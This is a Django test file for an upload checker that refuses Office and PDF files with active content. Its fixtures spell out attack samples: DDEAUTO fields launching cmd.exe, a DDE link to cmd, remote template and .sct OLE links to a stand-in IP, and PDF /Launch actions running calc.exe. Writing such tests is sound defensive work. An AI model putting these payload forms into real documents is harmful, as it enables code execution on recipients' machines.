"""Active content the upload check refuses by allowlist (security review of issue 10):
content types nobody listed, external relationships other than web/mail hyperlinks, DDE
fields, Excel 4.0 macro sheets, and PDF actions other than /GoTo, /URI and /ResetForm —
also when the action's name is stored as an indirect object. Each refusal says what is
wrong; the page answers 400, never 500; ordinary documents still pass."""

import io
import zipfile

import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from archives.models import ArchiveDocument, DocumentKind
from archives.uploads import DOCX, PDF, XLSX, check_upload
from tests.archives.conftest import stored_files
from tests.archives.documents import (
    WORD_NS,
    docx_bytes,
    field_runs,
    pdf_with_action,
    relationships,
    xlsx_bytes,
)
from tests.archives.factories import archive_for

pytestmark = pytest.mark.django_db

SPREADSHEET = "application/vnd.openxmlformats-officedocument.spreadsheetml."
WORD = "application/vnd.openxmlformats-officedocument.wordprocessingml."


def upload(name: str, content: bytes) -> SimpleUploadedFile:
    return SimpleUploadedFile(name, content, content_type="application/octet-stream")


def refusal(name: str, content: bytes) -> ValidationError:
    with pytest.raises(ValidationError) as caught:
        check_upload(upload(name, content))
    return caught.value


def override(part: str, content_type: str) -> str:
    return f'<Override PartName="/{part}" ContentType="{content_type}"/>'


def docx_with_part(part: str, content_type: str, content: bytes = b"<x/>") -> bytes:
    return docx_bytes({part: content}, content_types_extra=override(part, content_type))


def docx_with_relation(kind: str, target: str, mode: str = "External") -> bytes:
    return docx_bytes({"word/_rels/document.xml.rels": relationships((kind, target, mode))})


def xlsx_with(parts: dict[str, bytes], types: str) -> bytes:
    """openpyxl's workbook with `parts` added and `types` added to its content types."""
    source = zipfile.ZipFile(io.BytesIO(xlsx_bytes()))
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as package:
        for entry in source.namelist():
            data = source.read(entry)
            if entry == "[Content_Types].xml":
                data = data.replace(b"</Types>", types.encode() + b"</Types>")
            package.writestr(entry, data)
        for entry, data in parts.items():
            package.writestr(entry, data)
    return buffer.getvalue()


MACRO_SHEET = "application/vnd.ms-excel.macrosheet+xml"
INTL_MACRO_SHEET = "application/vnd.ms-excel.intlmacrosheet+xml"

REFUSED_PACKAGES = [
    # (id, file name, content, code, words the message must contain)
    ("html-part", "行程.docx", docx_with_part("word/page.htm.xml", "text/html"),
     "content_type_not_allowed", "text/html"),
    ("html-by-default-extension", "行程.docx", docx_bytes(
        {"word/afchunk.dat": b"<html><script>alert(1)</script></html>"},
        content_types_extra='<Default Extension="dat" ContentType="text/html"/>'),
     "content_type_not_allowed", "text/html"),
    ("activex-elsewhere", "行程.docx", docx_with_part(
        "word/controls/ctrl1.xml", "application/vnd.ms-office.activeX+xml"),
     "content_type_not_allowed", "activeX"),
    ("web-extension-add-in", "行程.docx", docx_with_part(
        "word/webextensions/webextension1.xml", "application/vnd.ms-office.webextension+xml"),
     "content_type_not_allowed", "webextension"),
    ("unknown-content-type", "行程.docx", docx_with_part("word/thing.xml", "application/x-foo"),
     "content_type_not_allowed", "application/x-foo"),
    ("vba-content-type", "行程.docx", docx_with_part(
        "word/code.bin", "application/vnd.ms-office.vbaProject"), "macros", "contains macros"),
    ("excel4-macro-sheet", "结算单.xlsx", xlsx_with(
        {"xl/macrosheets/sheet2.xml": b"<xm:macrosheet/>"},
        override("xl/macrosheets/sheet2.xml", MACRO_SHEET)), "macros", "contains macros"),
    ("excel4-intl-macro-sheet-renamed", "结算单.xlsx", xlsx_with(
        {"xl/worksheets/sheet9.xml": b"<x/>"},
        override("xl/worksheets/sheet9.xml", INTL_MACRO_SHEET)), "macros", "contains macros"),
    ("excel4-macro-sheet-without-type", "结算单.xlsx", xlsx_with(
        {"xl/macrosheets/sheet2.xml": b"<x/>"}, ""), "macros", "contains macros"),
    ("excel-dde-external-link", "结算单.xlsx", xlsx_with(
        {"xl/externalLinks/externalLink1.xml": b'<externalLink><ddeLink ddeService="cmd" '
                                               b'ddeTopic="/c calc"/></externalLink>'},
        override("xl/externalLinks/externalLink1.xml", SPREADSHEET + "externalLink+xml")),
     "content_type_not_allowed", "externalLink"),
    ("excel-data-connection", "结算单.xlsx", xlsx_with(
        {"xl/connections.xml": b"<connections/>"},
        override("xl/connections.xml", SPREADSHEET + "connections+xml")),
     "content_type_not_allowed", "connections"),
    ("remote-template", "行程.docx", docx_bytes({
        "word/_rels/settings.xml.rels": relationships(
            ("attachedTemplate", "http://198.51.100.7/t.dotm", "External"))}),
     "external_link", "http://198.51.100.7/t.dotm"),
    ("remote-ole-object", "行程.docx", docx_with_relation(
        "oleObject", "http://198.51.100.7/x.sct"), "external_link", "oleObject"),
    ("remote-frame", "行程.docx", docx_with_relation("frame", "http://198.51.100.7/f.html"),
     "external_link", "frame"),
    ("remote-subdocument", "行程.docx", docx_with_relation(
        "subDocument", "\\\\198.51.100.7\\share\\sub.docx"), "external_link", "subDocument"),
    ("remote-picture", "行程.docx", docx_with_relation(
        "image", "http://198.51.100.7/pixel.png"), "external_link", "loads something"),
    ("odd-target-mode", "行程.docx", docx_with_relation(
        "attachedTemplate", "http://198.51.100.7/t.dotm", "external"), "external_link",
     "attachedTemplate"),
    ("internal-mode-with-a-url", "行程.docx", docx_with_relation(
        "attachedTemplate", "file:///C:/Windows/t.dotm", ""), "external_link", "file:///"),
    ("hyperlink-to-a-windows-share", "行程.docx", docx_with_relation(
        "hyperlink", "\\\\198.51.100.7\\share\\a.exe"), "external_link", "web or e-mail"),
    ("hyperlink-to-a-file", "行程.docx", docx_with_relation("hyperlink", "file:///C:/x.exe"),
     "external_link", "file:///C:/x.exe"),
    ("ddeauto-split-over-runs", "行程.docx", docx_bytes(body=field_runs(
        'DD', 'EAUTO c:\\\\Windows\\\\System32\\\\cmd.exe "/k calc.exe"')), "dde", "DDE field"),
    ("dde-in-a-simple-field", "行程.docx", docx_bytes(
        body='<w:p><w:fldSimple w:instr=" dde excel sheet1!R1C1 "/></w:p>'), "dde",
     "word/document.xml"),
    ("dde-in-a-header", "行程.docx", docx_bytes({
        "word/header1.xml": f'<w:hdr {WORD_NS}><w:p><w:r><w:instrText>DDEAUTO cmd '
                            '"/c calc"</w:instrText></w:r></w:p></w:hdr>'}),
     "dde", "word/header1.xml"),
]  # fmt: skip


@pytest.mark.parametrize(
    ("name", "content", "code", "words"),
    [pytest.param(*case[1:], id=case[0]) for case in REFUSED_PACKAGES],
)
def test_active_office_content_is_refused_saying_what(name, content, code, words):
    error = refusal(name, content)
    assert error.code == code
    message = " ".join(error.messages)
    assert name in message
    assert words in message


def test_an_embedded_package_is_held_to_the_same_allowlist():
    inner = docx_with_relation("attachedTemplate", "http://198.51.100.7/t.dotm")
    error = refusal("行程.docx", docx_bytes({"word/embeddings/inner.docx": inner}))
    assert error.code == "external_link"


ORDINARY = [
    ("web-and-mail-hyperlinks", "行程.docx", docx_bytes({
        "word/_rels/document.xml.rels": relationships(
            ("hyperlink", "https://www.example.com/行程", "External"),
            ("hyperlink", "mailto:booking@example.com", "External"),
            ("styles", "styles.xml", ""))}), DOCX),
    ("page-field-and-ordinary-parts", "行程.docx", docx_bytes(
        {"word/styles.xml": f"<w:styles {WORD_NS}/>", "word/footer1.xml": f"<w:ftr {WORD_NS}/>",
         "word/media/image1.emf": b"\x01\x00\x00\x00"},
        content_types_extra=override("word/styles.xml", WORD + "styles+xml")
        + override("word/footer1.xml", WORD + "footer+xml")
        + '<Default Extension="emf" ContentType="image/x-emf"/>',
        body=field_runs(" PAGE ", "\\* MERGEFORMAT ") + "<w:p><w:r><w:t>DDE 说明"
                                                        "</w:t></w:r></w:p>"), DOCX),
]  # fmt: skip


@pytest.mark.parametrize(
    ("name", "content", "kind"), [pytest.param(*case[1:], id=case[0]) for case in ORDINARY]
)
def test_ordinary_documents_still_pass(name, content, kind):
    assert check_upload(upload(name, content)).content_type == kind.content_type


def test_a_workbook_with_a_web_hyperlink_passes():
    from openpyxl import Workbook

    workbook = Workbook()
    workbook.active["A1"] = "行程单"
    workbook.active["A1"].hyperlink = "https://www.example.com/itinerary"
    buffer = io.BytesIO()
    workbook.save(buffer)
    assert check_upload(upload("结算单.xlsx", buffer.getvalue())).content_type == (
        XLSX.content_type
    )


REFUSED_PDF_ACTIONS = [
    ("launch-indirect", {"/S": "/Launch", "/F": "calc.exe"}, "/OpenAction", "/Launch"),
    ("remote-goto", {"/S": "/GoToR", "/F": "\\\\198.51.100.7\\x.pdf"}, "/OpenAction",
     "/GoToR"),
    ("embedded-goto", {"/S": "/GoToE"}, "/Annots", "/GoToE"),
    ("submit-form", {"/S": "/SubmitForm", "/F": "http://198.51.100.7/"}, "/AA",
     "/SubmitForm"),
    ("import-data", {"/S": "/ImportData", "/F": "x.fdf"}, "/Annots", "/ImportData"),
    ("rendition", {"/S": "/Rendition"}, "/AA", "/Rendition"),
    ("sound", {"/S": "/Sound"}, "/Annots", "/Sound"),
    ("movie", {"/S": "/Movie"}, "/Annots", "/Movie"),
    ("launch-chained-after-goto", {"/S": "/Launch", "/F": "calc.exe"}, "/Next", "/Launch"),
    ("uri-to-a-file", {"/S": "/URI", "/URI": "file:///C:/Windows/calc.exe"}, "/Annots",
     "file:///"),
    ("unknown-action", {"/S": "/Frobnicate"}, "/OpenAction", "/Frobnicate"),
]  # fmt: skip


@pytest.mark.parametrize(
    ("action", "where", "words"),
    [pytest.param(*case[1:], id=case[0]) for case in REFUSED_PDF_ACTIONS],
)
def test_pdf_actions_outside_the_allowlist_are_refused(action, where, words):
    error = refusal("行程.pdf", pdf_with_action(action, where=where))
    assert error.code == "pdf_action"
    message = " ".join(error.messages)
    assert "行程.pdf" in message
    assert words in message


def test_pdf_javascript_behind_an_indirect_name_is_refused():
    error = refusal("行程.pdf", pdf_with_action({"/S": "/JavaScript"}, where="/AA"))
    assert error.code == "pdf_script"


@pytest.mark.parametrize(
    ("action", "where"),
    [
        pytest.param({"/S": "/URI", "/URI": "https://www.example.com/行程"}, "/Annots", id="uri"),
        pytest.param({"/S": "/URI", "/URI": "mailto:a@example.com"}, "/Annots", id="mailto"),
        pytest.param({"/S": "/GoTo", "/D": "/first"}, "/OpenAction", id="goto"),
        pytest.param({"/S": "/ResetForm"}, "/AA", id="reset-form"),
    ],
)
def test_pdf_links_to_pages_and_web_addresses_pass(action, where):
    assert check_upload(upload("行程.pdf", pdf_with_action(action, where=where))).content_type == (
        PDF.content_type
    )


def test_a_refused_dde_document_through_the_page_is_a_400_with_the_reason(
    customer_of_sales1, sales1, client_as, private_media
):
    archive = archive_for(customer_of_sales1)
    content = docx_bytes(body=field_runs("DDEAUTO cmd ", '"/c calc"'))
    response = client_as(sales1).post(
        reverse("archives:document_add", args=[archive.pk]),
        {"kind": DocumentKind.TRAVEL_CONTRACT, "file": upload("合同.docx", content)},
    )
    assert response.status_code == 400
    assert "contains a DDE field" in response.text
    assert ArchiveDocument.objects.count() == 0
    assert stored_files(private_media) == []
